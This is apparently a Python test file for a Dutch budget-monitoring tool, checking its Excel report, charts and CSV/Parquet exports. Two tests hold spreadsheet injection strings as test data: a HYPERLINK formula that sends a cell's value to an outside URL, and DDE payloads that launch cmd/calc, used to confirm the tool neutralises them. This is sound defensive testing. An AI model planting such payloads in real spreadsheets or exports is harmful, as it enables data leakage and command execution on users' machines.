"""The report workbook and the ledger exports: what the controller opens, and what BI tools read."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from monitoring_cases.fill import typed_values
from monitoring_cases.report_ledger import Q1, SUBMISSIONS, typed_sum
from openpyxl import load_workbook
from sheet_layout import covered_cells, occupied_cells

from jbjr_budget.cli import main
from jbjr_budget.models.monitoring_figures import compute_monitoring, ledger_tables
from jbjr_budget.monitoring.layout import build_layout, template_name
from jbjr_budget.monitoring.ledger import Ledger
from jbjr_budget.monitoring.validate import validate_file
from jbjr_budget.rules.catalog import Catalog
from jbjr_budget.writers.exports import export_frames
from jbjr_budget.writers.report_workbook import write_report
from jbjr_budget.writers.template_workbook import write_template


@pytest.fixture(scope="module")
def written(report_ledger: dict) -> dict:
    root = report_ledger["root"]
    report = root / "rapportage.xlsx"
    assert main(["rapportage", "--periode", "2026-Q1", "--grootboek", str(report_ledger["ledger"]),
                 "--uitvoer", str(report), "--csv", str(root / "csv"), "--parquet", str(root / "pq")]) == 0
    return {**report_ledger, "report": report}


def _rows(path: Path, sheet: str, header_row: int = 4) -> pd.DataFrame:
    ws = load_workbook(path)[sheet]
    rows = list(ws.iter_rows(min_row=header_row, values_only=True))
    body = []
    for row in rows[1:]:
        if row[0] is None:
            break
        body.append(row)
    return pd.DataFrame(body, columns=rows[0])


def test_report_shows_the_figures_with_names_and_charts(written: dict) -> None:
    table = _rows(written["report"], "Realisatie")
    assert "Regio Alkmaar" in set(table.Regio)
    assert "Castricum" in set(table.Gemeente)
    per_regio = _rows(written["report"], "Per regio").set_index("Regio")
    assert per_regio.loc["Totaal", "Realisatie"] == pytest.approx(table["Realisatie bedrag"].sum())
    wb = load_workbook(written["report"])
    assert len(wb["Inspectienormen"]._charts) == 1
    assert len(wb["Personeel"]._charts) == 1
    assert len(wb["Doelen"]._charts) == 3


@pytest.mark.parametrize("sheet", ["Inspectienormen", "Personeel", "Doelen"])
def test_line_charts_mark_each_period_and_cover_no_text(written: dict, sheet: str) -> None:
    # With one period a line without markers draws nothing; a chart over a text hides it.
    ws = load_workbook(written["report"])[sheet]
    assert ws._charts
    for chart in ws._charts:
        assert {s.marker.symbol for s in chart.series} == {"circle"}
        assert not occupied_cells(ws) & covered_cells(ws, chart)


def test_export_holds_every_submission_with_history_flag(written: dict) -> None:
    csv = pd.read_csv(written["root"] / "csv" / "volume.csv")
    parquet = pd.read_parquet(written["root"] / "pq" / "volume.parquet")
    assert len(csv) == len(parquet)
    assert set(csv.periode) == {"2022-Q1", "2025-Q4", "2026-Q1"}
    typed = written["typed"]
    assert int(csv.query("periode == '2026-Q1'").instroom.sum()) == typed_sum(typed, "2026-Q1", None, "volume",
                                                                               "instroom")
    assert (parquet.actueel == 1).all()
    submissions = pd.read_csv(written["root"] / "csv" / "aanlevering.csv")
    assert len(submissions) == len(SUBMISSIONS)


def test_report_without_submissions_is_a_dutch_error(written: dict, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rapportage", "--periode", "2030-Q1", "--grootboek", str(written["ledger"]),
                 "--uitvoer", str(written["root"] / "x.xlsx")]) == 2
    assert "geen aanleveringen voor periode 2030-Q1" in capsys.readouterr().err
    assert not (written["root"] / "x.xlsx").exists()


def _stored(tmp_path: Path, catalog: Catalog, texts: list[str]) -> Path:
    """A ledger whose one submission carries ``texts`` as its GI's explanations (as an older ledger may)."""
    layout = build_layout(catalog, "jgb", "alkmaar", Q1)
    source = write_template(layout, tmp_path / template_name("jgb", "alkmaar", Q1), typed_values(layout, 9))
    submission = validate_file(source, catalog).submission
    assert submission is not None
    for row, text in zip(submission.rows["toelichting"], texts, strict=False):
        row["tekst"] = text
    with Ledger(tmp_path / "gb.sqlite") as ledger:
        ledger.store(submission)
    return tmp_path / "gb.sqlite"


def test_a_gi_text_that_looks_like_a_formula_stays_text_in_the_report(tmp_path: Path, catalog: Catalog) -> None:
    evil = '=HYPERLINK("https://example.org/?"&Realisatie!F5,"klik")'
    with Ledger(_stored(tmp_path, catalog, [evil])) as ledger:
        report = write_report(compute_monitoring(ledger, Q1), tmp_path / "rapport.xlsx")
    ws = load_workbook(report)["Toelichting GI's"]
    cells = [c for c in ws["D"] if c.value == evil]
    assert len(cells) == 1
    assert cells[0].data_type == "s"


def test_csv_export_keeps_gi_texts_from_running_as_formulas(tmp_path: Path, catalog: Catalog) -> None:
    # Texts starting with '=' are refused at import; '+', '-' and '@' are allowed (bullet lists) but start a
    # formula when Excel opens a CSV file. The CSV gets a leading apostrophe; Parquet keeps the typed text.
    texts = ["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "gewone tekst"]
    with Ledger(_stored(tmp_path, catalog, texts)) as ledger:
        frames = ledger_tables(ledger)
    export_frames(frames, tmp_path / "csv", "csv")
    export_frames(frames, tmp_path / "pq", "parquet")
    csv = pd.read_csv(tmp_path / "csv" / "toelichting.csv")
    assert {"'" + texts[0], "'" + texts[1], texts[2]} <= set(csv.tekst)
    assert not {texts[0], texts[1]} & set(csv.tekst)
    parquet = pd.read_parquet(tmp_path / "pq" / "toelichting.parquet")
    assert set(texts) <= set(parquet.tekst)
    numbers = pd.read_csv(tmp_path / "csv" / "volume.csv").select_dtypes("number")
    assert list(numbers.columns) == list(pd.read_parquet(tmp_path / "pq" / "volume.parquet").select_dtypes("number"))
